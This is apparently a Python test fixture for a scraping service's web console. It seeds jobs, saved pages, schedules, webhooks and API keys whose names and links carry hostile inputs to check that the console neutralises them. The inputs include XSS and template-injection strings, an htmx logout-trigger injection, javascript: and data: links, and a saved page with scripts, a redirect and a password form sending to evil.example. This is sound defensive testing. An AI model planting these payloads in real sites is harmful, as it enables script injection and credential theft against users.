"""An organization with a job in each state, and texts of strangers that want to be more than texts."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from pymongo.database import Database
from werkzeug.test import TestResponse

from storage.base.ids import target_id
from storage.base.records import StartedTarget
from storage.jobs.settlement import Settlement
from storage.pages.saved_pages import SavedPages
from tests.control_api.conftest import Tenant
from tests.control_api.console.conftest import Person
from tests.control_api.crawling import end_target, fail_target
from tests.spiders.little_store import product_html
from tests.spiders.saved.pages import page_of

# In titles, brands, keywords and names of projects.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "{{7*7}} ${7*7} <%=7*7%>",
    "' hx-get='/console/logout' hx-trigger='load'",
    "\u202egnitpmet \u2066very",
    "a" * 400,
)
HOSTILE_LINKS = (
    "javascript:alert(3)",
    "data:text/html,<script>alert(4)</script>",
    "//evil.example/x",
    "vbscript:x",
    'https://ok.example/dp/B000000001?a="><script>alert(5)</script>',
)


# As fetched: what it tries must not happen, wherever it is shown.
HOSTILE_PAGE = """<html><head><title>a shop</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/x.png) }</style>
<script>fetch("https://evil.example/script"); parent.document.title = "taken"; top.location = "/console"</script>
</head><body onload="alert(1)"><img src="https://evil.example/y.png" onerror="alert(2)">
<form action="https://evil.example/form"><input name="password"><button id="go">Sign in</button></form>
<a id="out" href="https://evil.example/link" target="_top">out</a>
<iframe src="https://evil.example/frame"></iframe>
<h1 id="said">What the shop said</h1></body></html>"""


@dataclass(frozen=True)
class Seeded:
    project: str
    running: str
    partial: str
    failed: str
    cancelled: str
    hostile: str

    @property
    def jobs(self) -> tuple[str, ...]:
        return self.running, self.partial, self.failed, self.cancelled, self.hostile


def search_row(number: int, **other: Any) -> dict[str, Any]:
    return {
        "asin": f"B0{number:08d}",
        "title": f"Wireless earbuds no. {number} with a case that charges them for days, in black",
        "price": {"amount": 19.99 + number, "currency": "USD", "raw": f"${19.99 + number}"},
        "rank": number,
        "rating": 4.5,
        "ratingsCount": 1000 + number,
        "sponsored": number % 5 == 0,
        "keyword": "wireless earbuds",
        "brand": "Example",
        "url": f"https://www.amazon.com/dp/B0{number:08d}",
        "badges": ["Best Seller", "Amazon's Choice", "Small Business"],
        **other,
    }


def seed(tenant: Tenant, database: Database) -> Seeded:
    settlement = Settlement(database.client, database)
    project = tenant.make_project("Headphones & co")
    running = tenant.make_job(project, targets=["wireless earbuds", "usb hub", "desk lamp"])["id"]
    settlement.commit([StartedTarget(target_id(running, 1), running, 1)], [])
    end_target(settlement, running, 0, [search_row(n) for n in range(1, 131)])
    partial = tenant.make_job(
        project, type="details", targets=["B000000001", "B000000002", "B000000003"]
    )["id"]
    product = {**search_row(1), "availability": "in_stock", "seller": {"name": "Example Ltd"}}
    end_target(settlement, partial, 0, [product])
    fail_target(settlement, partial, 1)
    fail_target(settlement, partial, 2, code="BLOCKED_CAPTCHA")
    failed = tenant.make_job(project, targets=["nothing"])["id"]
    fail_target(settlement, failed, 0, code="BLOCKED_THROTTLED")
    cancelled = tenant.make_job(project, targets=["a", "b"])["id"]
    assert tenant.post(f"/jobs/{cancelled}/cancel").status_code == 200
    searched = dict.fromkeys(
        ("url", "requested_url"), "https://www.amazon.com/s?k=wireless+earbuds"
    )
    places = [(1, position) for position in range(1, 131)]
    SavedPages(database).keep(
        [
            page_of(partial, body=product_html("B000000001"), rows=[(1, 1)]),
            page_of(running, body=HOSTILE_PAGE.encode(), rows=places, number=2, **searched),
            page_of(running, body=b"", url=HOSTILE_LINKS[0], requested_url=HOSTILE[1]),
        ]
    )
    return Seeded(project, running, partial, failed, cancelled, _hostile(tenant, settlement))


def _hostile(tenant: Tenant, settlement: Settlement) -> str:
    project = tenant.make_project(HOSTILE[0])
    job: str = tenant.make_job(project, targets=list(HOSTILE))["id"]
    rows = [
        search_row(number, title=text, brand=text, url=link, keyword=text)
        for number, text in enumerate(HOSTILE)
        for link in HOSTILE_LINKS
    ]
    end_target(settlement, job, 0, rows)
    for index in range(1, len(HOSTILE)):
        fail_target(settlement, job, index)
    return job


@dataclass(frozen=True)
class Things:
    """What an organization has beside jobs, by id."""

    schedule: str
    webhook: str
    delivery: str
    key: str
    member: str
    invitation: str


def make_things(tenant: Tenant, project: str) -> Things:
    """Their names are texts that want to be more."""
    crawl = {"type": "search", "targets": [HOSTILE[0], "usb hub"]}
    body = {"name": HOSTILE[1], "cron": "0 6 * * *", "crawlConfig": crawl}
    schedule = tenant.post(f"/projects/{project}/schedules", json=body).json["data"]["id"]
    hook = {"url": "https://receiver.example.com/hook?a=<b>", "events": ["job.completed"]}
    webhook = tenant.post(f"/projects/{project}/webhooks", json=hook).json["data"]["id"]
    delivery = tenant.post(f"/webhooks/{webhook}/test").json["data"]["id"]
    path = f"/private/projects/{project}/api-keys"
    key = tenant.post(path, json={"name": HOSTILE[0]}).json["data"]["id"]
    person = {"email": "member@example.com", "password": "correct horse", "name": HOSTILE[1]}
    member = tenant.post("/organization/members", json=person).json["data"]["id"]
    invited = tenant.post("/organization/invitations", json={}).json["data"]["id"]
    return Things(schedule, webhook, delivery, key, member, invited)


# A form of a new job.
JOB = {"type": "search", "targets": "usb hub\ndesk lamp"}


def job_at(person: Person, answer: TestResponse) -> dict[str, Any]:
    """The job that the answer to a form leads to."""
    assert answer.status_code == 303, answer.text
    path = answer.headers["Location"].removeprefix("/console")
    job: dict[str, Any] = person.tenant.get(path).json["data"]
    return job
